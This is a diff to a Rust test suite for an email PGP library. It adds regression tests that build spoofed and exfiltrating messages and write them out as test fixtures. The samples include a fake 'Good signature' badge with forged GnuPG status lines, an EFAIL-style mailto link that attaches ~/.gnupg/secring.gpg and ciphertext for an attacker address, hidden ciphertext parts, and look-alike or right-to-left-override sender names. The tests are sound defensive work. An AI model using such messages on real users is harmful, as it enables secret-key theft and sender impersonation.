@@ -3,12 +3,13 @@
 
 use std::fmt::Write as _;
 use std::io::Write as _;
-use std::sync::LazyLock;
+use std::path::Path;
+use std::sync::{LazyLock, Mutex};
 use std::time::SystemTime;
 
 use casemail::mail::display;
 use casemail::mail::message::Message;
-use casemail::pgp::certificate::{merge, read_certs, revoke};
+use casemail::pgp::certificate::{export_secret, merge, read_certs, revoke};
 use casemail::pgp::generate::{Generated, generate};
 use casemail::pgp::keyring::Keyring;
 use casemail::pgp::open::{Decrypt, Opened, open};
@@ -308,11 +309,31 @@ mod erased {
     }
 }
 
+/// A message for the files of `tests/data/pgp`: the words for it, its bytes, whether it holds the secret, and a certificate that is believed
+/// beside the usual ones.
+struct Filed {
+    class: String,
+    raw: Vec<u8>,
+    secret: bool,
+    cert: Option<Vec<u8>>,
+}
+
+/// Where they are put; only [`write_the_files`] fills it.
+static FILES: Mutex<Option<Vec<Filed>>> = Mutex::new(None);
+
+fn file(class: &str, raw: &[u8], secret: bool, cert: Option<&[u8]>) {
+    if let Some(files) = FILES.lock().expect("whole").as_mut() {
+        let cert = cert.map(<[u8]>::to_vec);
+        files.push(Filed { class: class.to_owned(), raw: raw.to_vec(), secret, cert });
+    }
+}
+
 /// Opens each, holds what must hold for all of them, and gives the words for the snapshot.
 fn check_all(messages: &[(&str, Vec<u8>, bool)]) -> String {
     let keyring = keyring();
     let mut all = String::new();
     for (class, raw, secret) in messages {
+        file(class, raw, *secret, None);
         let opened = open(&Message::parse(raw.as_slice()), &keyring, now(), Decrypt::Any);
         let report = &opened.report;
         let for_victim = report.signature.bound_to.as_deref() == Some(VICTIM);
@@ -669,7 +690,8 @@ fn an_identity_is_an_address_and_nothing_else() {
 /// Certificates that stand for nobody, or no longer.
 #[test]
 fn a_certificate_has_to_be_good_itself() {
-    let with = |acceptance: Acceptance, cert: &[u8], raw: &[u8]| {
+    let with = |class: &str, acceptance: Acceptance, cert: &[u8], raw: &[u8]| {
+        file(class, raw, false, Some(cert));
         let mut keyring = keyring();
         keyring.add_cert(cert, acceptance).expect("a certificate");
         told(&open(&Message::parse(raw), &keyring, now(), Decrypt::Any))
@@ -686,11 +708,14 @@ fn a_certificate_has_to_be_good_itself() {
     // Revoked: the revocation wins, and importing an older copy does not take it back.
     let honest = mail(VICTIM, &genuine(), &[]);
     let revoked = revoke(&CAST.victim.cert, CAST.victim.revocation.as_bytes()).expect("revoked");
-    add("revoked", with(Acceptance::Verified, &revoked, &honest));
+    add("revoked", with("revoked", Acceptance::Verified, &revoked, &honest));
     let merged = merge(&CAST.victim.cert, &revoked).expect("the same");
     assert!(read_certs(&merged, now()).expect("one")[0].info.revoked);
     let merged = merge(&revoked, &CAST.victim.cert).expect("the same");
-    add("revoked, then imported again without it", with(Acceptance::Verified, &merged, &honest));
+    add(
+        "revoked, then imported again without it",
+        with("revoked, then imported again without it", Acceptance::Verified, &merged, &honest),
+    );
     let mut keyring = keyring();
     keyring.add_cert(&revoked, Acceptance::Verified).expect("one");
     keyring.add_cert(&CAST.victim.cert, Acceptance::Verified).expect("one");
@@ -702,7 +727,12 @@ fn a_certificate_has_to_be_good_itself() {
     let forged = forged.to_vec().expect("bytes");
     add(
         "user id without a self-signature",
-        with(Acceptance::Accepted, &forged, &mail(VICTIM, &signed_by(&CAST.attacker, &body(), now()), &[])),
+        with(
+            "user id without a self-signature",
+            Acceptance::Accepted,
+            &forged,
+            &mail(VICTIM, &signed_by(&CAST.attacker, &body(), now()), &[]),
+        ),
     );
     // The same with the victim's own self-signature copied over.
     let victim = cert(&CAST.victim);
@@ -714,7 +744,12 @@ fn a_certificate_has_to_be_good_itself() {
     let copied = copied.to_vec().expect("bytes");
     add(
         "user id with a copied signature",
-        with(Acceptance::Accepted, &copied, &mail(VICTIM, &signed_by(&CAST.attacker, &body(), now()), &[])),
+        with(
+            "user id with a copied signature",
+            Acceptance::Accepted,
+            &copied,
+            &mail(VICTIM, &signed_by(&CAST.attacker, &body(), now()), &[]),
+        ),
     );
 
     // Expired before it signed.
@@ -740,16 +775,16 @@ fn a_certificate_has_to_be_good_itself() {
         mail(VICTIM, &signed_by_hand(content, signature), &[])
     };
     let raw = by_hand(signing(&expired), SignatureType::Binary, HashAlgorithm::SHA256, now());
-    add("expired", with(Acceptance::Verified, &expired.to_vec().expect("bytes"), &raw));
+    add("expired", with("expired", Acceptance::Verified, &expired.to_vec().expect("bytes"), &raw));
 
     let pair = || signing_pair(&cert(&CAST.victim));
     let control = by_hand(pair(), SignatureType::Binary, HashAlgorithm::SHA256, now());
     let opened = open(&Message::parse(control), &self::keyring(), now(), Decrypt::Any);
     assert_eq!(opened.report.signature.state, SignatureState::Good, "the control");
     let raw = by_hand(pair(), SignatureType::Binary, HashAlgorithm::SHA1, now());
-    add("SHA-1", with(Acceptance::Verified, &CAST.victim.cert, &raw));
+    add("SHA-1", with("SHA-1", Acceptance::Verified, &CAST.victim.cert, &raw));
     let raw = by_hand(pair(), SignatureType::Standalone, HashAlgorithm::SHA256, now());
-    add("signature of another type", with(Acceptance::Verified, &CAST.victim.cert, &raw));
+    add("signature of another type", with("signature of another type", Acceptance::Verified, &CAST.victim.cert, &raw));
     insta::assert_snapshot!(all);
 }
 
@@ -998,4 +1033,154 @@ fn sealing_fails_closed() {
     );
     keyring.lock();
     assert!(seal(&body(), &fields(VICTIM, &[]), &[], &keyring, me, now()).is_err(), "signed while locked");
+}
+
+/// What only looks like something: drawn badges, links, look-alike names, hidden parts.
+#[test]
+fn what_a_message_says_of_itself_is_only_text() {
+    let block = armored_block(&sealed().entity);
+    let badge = format!(
+        "\u{250c}\u{2500} OpenPGP \u{2500}\u{2510}\r\n\u{2502} Signed on 2026-05-05 at 10:00 UTC by {VICTIM}, whose key you compared.\r\n\
+         \u{1b}[32mGood signature\u{1b}[0m\r\n[GNUPG:] GOODSIG 0 {VICTIM}\r\nThe signature covers all that is shown.\r\n"
+    );
+    let link = format!(
+        "<p>Reply <a href=\"mailto:{ATTACKER}?subject=x&attach=~/.gnupg/secring.gpg&body={}\">here</a></p>",
+        block.replace('\n', "%0D%0A")
+    );
+    let hidden = [
+        html("<p>What's up?</p><div style=\"display:none\"><img src=\"cid:part\"></div>"),
+        [b"Content-ID: <part>\r\n".as_slice(), &sealed().entity].concat(),
+    ];
+    let blank = format!("What's up?{}{block}\r\n", "\r\n".repeat(200));
+    let ours = signed_by(&CAST.attacker, &body(), now());
+    let secret_key = export_secret(&CAST.attacker.secret, None).expect("armor");
+    let key_file = [b"Content-Type: application/pgp-keys\r\n\r\n".as_slice(), secret_key.as_bytes()].concat();
+    let told = check_all(&[
+        ("drawn badge and status lines in the text", mail(VICTIM, &text(&badge), &[]), false),
+        ("mailto with attach and ciphertext in its body", mail(ATTACKER, &html(&link), &[]), true),
+        (
+            "hidden part with ciphertext, related",
+            mail(ATTACKER, &multipart("related", &[&hidden[0], &hidden[1]]), &[]),
+            true,
+        ),
+        ("ciphertext after two hundred empty lines", mail(ATTACKER, &plain_text(&blank), &[]), true),
+        (
+            "look-alike name, signed by its own key",
+            mail("=?utf-8?q?H=D0=B0mish_Lintwhite?= <x@attacker.example>", &ours, &[]),
+            false,
+        ),
+        (
+            "right-to-left override in the name",
+            mail("=?utf-8?q?=E2=80=AEetihwtniL?= <x@attacker.example>", &ours, &[]),
+            false,
+        ),
+        ("secret key attached", mail(ATTACKER, &multipart("mixed", &[&text("My key."), &key_file]), &[]), false),
+    ]);
+    insta::assert_snapshot!(told);
+    // Two plaintexts that differ in their structure alone are both opened without a trace of which is which outside.
+    for inner in [text("One part."), multipart("mixed", &[&text("Two"), &text("parts.")])] {
+        let raw = mail(VICTIM, &framed(&encrypted_packets(false, |writer| literal(writer, &inner))), &[]);
+        file("format oracle", &raw, false, None);
+        let opened = open(&Message::parse(raw), &keyring(), now(), Decrypt::NotRsa);
+        assert!(opened.report.decrypted && opened.warnings.is_empty(), "{:?}", opened.warnings);
+    }
+}
+
+/// The class of SECURITY's table that a test's messages stand for.
+const CLASSES: [(&str, fn()); 10] = [
+    ("C1", ciphertext_among_other_parts_stays_closed),
+    ("C2", broken_ciphertext_shows_nothing),
+    ("C7", encryption_is_named_only_where_it_is),
+    ("S1", a_signature_speaks_only_for_what_it_covers),
+    ("S2", an_identity_is_an_address_and_nothing_else),
+    ("C9", a_certificate_has_to_be_good_itself),
+    ("S5", text_around_a_cleartext_signature_is_nobodys),
+    ("S9", protected_fields_win_only_at_the_root),
+    ("S7", mail_for_somebody_else_is_not_ours),
+    ("S3", what_a_message_says_of_itself_is_only_text),
+];
+
+/// Messages whose class is not that of their test.
+const OTHER_CLASSES: [(&str, &str); 25] = [
+    ("ciphertext attached as a message", "C4"),
+    ("benign text, inline ciphertext", "C4"),
+    ("inline ciphertext in a second part", "C4"),
+    ("ciphertext inside a signed message", "C4"),
+    ("hidden part with ciphertext, related", "C4"),
+    ("ciphertext after two hundred empty lines", "C4"),
+    ("version 2 rewritten as version 1", "C3"),
+    ("version 1 rewritten as version 2", "C3"),
+    ("SED packet, no MDC", "C3"),
+    ("GnuPG's OCB packet", "C3"),
+    ("format oracle", "C5"),
+    ("mailto with attach and ciphertext in its body", "C6"),
+    ("a bomb", "C8"),
+    ("a bomb that is not even encrypted", "C8"),
+    ("secret key attached", "C10"),
+    ("status lines in the literal's name", "S4"),
+    ("altered", "S6"),
+    ("stripped", "S6"),
+    ("armor damaged", "S6"),
+    ("empty signature part", "S6"),
+    ("replayed a day later", "S7"),
+    ("made in the future", "S7"),
+    ("no date", "S7"),
+    ("look-alike name, signed by its own key", "S11"),
+    ("right-to-left override in the name", "S11"),
+];
+
+/// Writes `tests/data/pgp`: run by hand, when a class is added (`cargo test --test it -- --ignored write_the_files`).
+#[test]
+#[ignore = "writes files"]
+fn write_the_files() {
+    let dir = Path::new("tests/data/pgp");
+    std::fs::create_dir_all(dir).expect("a directory");
+    let mut index = String::from(include_str!("../data/pgp/README.head"));
+    let mut written = 0;
+    let mut write = |prefix: &str, filed: Filed| {
+        let slug: String = filed.class.chars().map(|c| if c.is_ascii_alphanumeric() { c } else { '-' }).collect();
+        let slug = slug.split('-').filter(|word| !word.is_empty()).collect::<Vec<_>>().join("-").to_lowercase();
+        written += 1;
+        let stem = format!("{prefix}-{written:03}-{slug}");
+        std::fs::write(dir.join(format!("{stem}.eml")), &filed.raw).expect("written");
+        if let Some(cert) = &filed.cert {
+            std::fs::write(dir.join(format!("{stem}.pgp")), cert).expect("written");
+        }
+        let secret = if filed.secret { "yes" } else { "" };
+        let _ = writeln!(index, "| {prefix} | {stem} | {} | {secret} |", filed.class);
+    };
+    let unclassed = |name: &str| {
+        let raw = match name {
+            "signed" => mail(VICTIM, &genuine(), &[]),
+            "sealed" => sealed().assemble(),
+            // Fields outside of the signature: good, and named unsigned.
+            _ => mail(
+                VICTIM,
+                &genuine(),
+                &[("Cc", ATTACKER), ("In-Reply-To", "<other@case>"), ("References", "<other@case>")],
+            ),
+        };
+        Filed { class: name.to_owned(), raw, secret: false, cert: None }
+    };
+    write("control", unclassed("signed"));
+    write("control", unclassed("sealed"));
+    write("S8", unclassed("fields added outside of the signature"));
+    for (class, test) in CLASSES {
+        *FILES.lock().expect("whole") = Some(Vec::new());
+        test();
+        for filed in FILES.lock().expect("whole").take().into_iter().flatten() {
+            let other = OTHER_CLASSES.iter().find(|(words, _)| *words == filed.class).map(|(_, class)| *class);
+            write(other.unwrap_or(class), filed);
+        }
+    }
+    std::fs::write(dir.join("README.md"), index).expect("written");
+    for (name, bytes) in [
+        ("us.secret", CAST.us.secret.as_slice()),
+        ("victim.verified", &CAST.victim.cert),
+        ("attacker.accepted", &CAST.attacker.cert),
+        ("undecided.undecided", &CAST.undecided.cert),
+        ("rejected.rejected", &CAST.rejected.cert),
+    ] {
+        std::fs::write(dir.join(format!("{name}.key")), bytes).expect("written");
+    }
 }
